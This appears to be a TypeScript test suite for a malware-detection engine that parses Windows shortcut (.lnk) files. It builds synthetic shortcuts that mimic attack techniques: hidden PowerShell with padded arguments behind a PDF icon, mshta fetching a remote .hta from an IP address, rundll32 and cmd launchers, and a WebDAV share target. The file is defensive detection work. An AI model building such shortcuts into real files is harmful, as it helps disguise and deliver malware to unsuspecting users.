import assert from 'node:assert/strict';
import { Buffer } from 'node:buffer';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import type { Artifact } from '../../../core/index.js';
import type { Finding } from '../../../core/index.js';
import { createLnkEngine } from './index.js';

interface LinkSpec {
  readonly idList?: Buffer;
  readonly basePath?: string;
  readonly share?: string;
  readonly workingDir?: string;
  readonly args?: string;
  readonly icon?: string;
  readonly envTarget?: string;
}

const u16 = (n: number): Buffer => {
  const b = Buffer.alloc(2);
  b.writeUInt16LE(n);
  return b;
};
const u32 = (n: number): Buffer => {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n >>> 0);
  return b;
};

/** Builds a Unicode Shell Link ([MS-SHLLINK] 2.1-2.5) from parts. */
function buildLnk(spec: LinkSpec): Buffer {
  let flags = 0x80;
  const parts: Buffer[] = [];
  if (spec.idList !== undefined) {
    flags |= 0x1;
    parts.push(u16(spec.idList.length), spec.idList);
  }
  if (spec.basePath !== undefined || spec.share !== undefined) {
    flags |= 0x2;
    const headerSize = 28;
    const base = Buffer.from(`${spec.basePath ?? ''}\0`, 'latin1');
    const suffix = Buffer.from('\0', 'latin1');
    let cnrl = Buffer.alloc(0);
    if (spec.share !== undefined) {
      const net = Buffer.from(`${spec.share}\0`, 'latin1');
      cnrl = Buffer.concat([u32(20 + net.length), u32(0), u32(20), u32(0), u32(0), net]);
    }
    const baseOffset = headerSize;
    const cnrlOffset = spec.share === undefined ? 0 : baseOffset + base.length;
    const suffixOffset = baseOffset + base.length + cnrl.length;
    const size = suffixOffset + suffix.length;
    const infoFlags = (spec.basePath !== undefined ? 1 : 0) | (spec.share !== undefined ? 2 : 0);
    parts.push(u32(size), u32(headerSize), u32(infoFlags), u32(0), u32(spec.basePath !== undefined ? baseOffset : 0), u32(cnrlOffset), u32(suffixOffset), base, cnrl, suffix);
  }
  const stringData = (text: string): Buffer => Buffer.concat([u16(text.length), Buffer.from(text, 'utf16le')]);
  if (spec.workingDir !== undefined) {
    flags |= 0x10;
    parts.push(stringData(spec.workingDir));
  }
  if (spec.args !== undefined) {
    flags |= 0x20;
    parts.push(stringData(spec.args));
  }
  if (spec.icon !== undefined) {
    flags |= 0x40;
    parts.push(stringData(spec.icon));
  }
  if (spec.envTarget !== undefined) {
    const block = Buffer.alloc(0x314);
    block.writeUInt32LE(0x314, 0);
    block.writeUInt32LE(0xa0000001, 4);
    block.write(spec.envTarget, 8, 'latin1');
    block.write(spec.envTarget, 268, 'utf16le');
    parts.push(block);
  }
  parts.push(u32(0));
  const header = Buffer.alloc(0x4c);
  header.writeUInt32LE(0x4c, 0);
  Buffer.from('0114020000000000c000000000000046', 'hex').copy(header, 4);
  header.writeUInt32LE(flags, 20);
  header.writeUInt32LE(1, 60);
  return Buffer.concat([header, ...parts]);
}

function inspect(content: Buffer): Finding[] {
  const artifact: Artifact = { path: '2', declaredType: 'application/octet-stream', size: content.length, sha256: '0'.repeat(64) };
  const result = createLnkEngine().inspect({ artifact, content });
  assert.ok(Array.isArray(result));
  return [...(result as readonly Finding[])];
}

const symbols = (findings: readonly Finding[]): string[] => findings.map((f) => f.symbol).sort();

describe('lnk engine', () => {
  it('flags a shortcut that launches powershell with padded arguments and a PDF icon', () => {
    const args = `${' '.repeat(200)}-nop -w hidden -c "echo hello"`;
    const lnk = buildLnk({ basePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', args, icon: 'C:\\Users\\Public\\invoice.pdf' });
    const findings = inspect(lnk);
    assert.deepEqual(symbols(findings), ['LNK_COMMAND', 'LNK_DECOY_ICON', 'LNK_LONG_ARGUMENTS']);
    const command = findings.find((f) => f.symbol === 'LNK_COMMAND');
    assert.match(command?.detail ?? '', /powershell/);
    assert.match(command?.detail ?? '', /-nop -w hidden -c "echo hello"/);
    assert.equal(command?.score, 15);
  });

  it('finds the program in the environment block, the ID list or the arguments', () => {
    assert.deepEqual(symbols(inspect(buildLnk({ envTarget: '%windir%\\system32\\mshta.exe', args: 'https://198.51.100.7/a.hta' }))), ['LNK_COMMAND']);
    const idList = Buffer.concat([u16(20), Buffer.alloc(2), Buffer.from('rundll32.exe\0', 'latin1'), Buffer.from('rundll32.exe\0', 'utf16le'), u16(0)]);
    assert.deepEqual(symbols(inspect(buildLnk({ idList, args: 'shell32.dll,Control_RunDLL x.cpl' }))), ['LNK_COMMAND']);
    assert.deepEqual(symbols(inspect(buildLnk({ basePath: 'C:\\Windows\\explorer.exe', args: '/c "cmd.exe /c echo hello"' }))), ['LNK_COMMAND']);
  });

  it('flags a target on a remote share', () => {
    assert.deepEqual(symbols(inspect(buildLnk({ share: '\\\\198.51.100.7@SSL\\DavWWWRoot', args: '' }))), ['LNK_REMOTE_TARGET']);
  });

  it('stays quiet for an ordinary application shortcut', () => {
    const lnk = buildLnk({ basePath: 'C:\\Program Files\\Example\\example.exe', workingDir: 'C:\\Program Files\\Example', args: '--profile-directory=Default', icon: 'C:\\Program Files\\Example\\example.exe' });
    assert.deepEqual(inspect(lnk), []);
    const folder = Buffer.concat([Buffer.from('node\0java\0', 'latin1'), u16(0)]);
    assert.deepEqual(inspect(buildLnk({ idList: folder })), []);
  });

  it('ignores content that is not a shortcut', () => {
    assert.deepEqual(inspect(Buffer.from('L\0\0\0 not a link at all, just text padding it out to seventy-six bytes..')), []);
  });

  it('reports a truncated shortcut as malformed', () => {
    const lnk = buildLnk({ basePath: 'C:\\x\\a.exe', args: 'hello' });
    assert.deepEqual(symbols(inspect(lnk.subarray(0, lnk.length - 8))), ['LNK_MALFORMED']);
  });

  it('never throws on random or mutated shortcuts', () => {
    const seed = buildLnk({ idList: Buffer.from('xxcmd.exe\0'), basePath: 'C:\\Windows\\System32\\cmd.exe', args: '/c echo hello', icon: 'a.pdf', envTarget: 'cmd.exe' });
    fc.assert(
      fc.property(
        fc.oneof(
          fc.uint8Array({ maxLength: 2048 }).map((b) => Buffer.concat([seed.subarray(0, 0x4c), Buffer.from(b)])),
          fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { maxLength: 20 }).map((edits) => {
            const copy = Buffer.from(seed);
            for (const [at, value] of edits) copy[20 + (at % (copy.length - 20))] = value;
            return copy;
          }),
        ),
        (content) => {
          for (const finding of inspect(content)) assert.ok(finding.detail.length < 2000);
        },
      ),
      { numRuns: 500 },
    );
  });
});
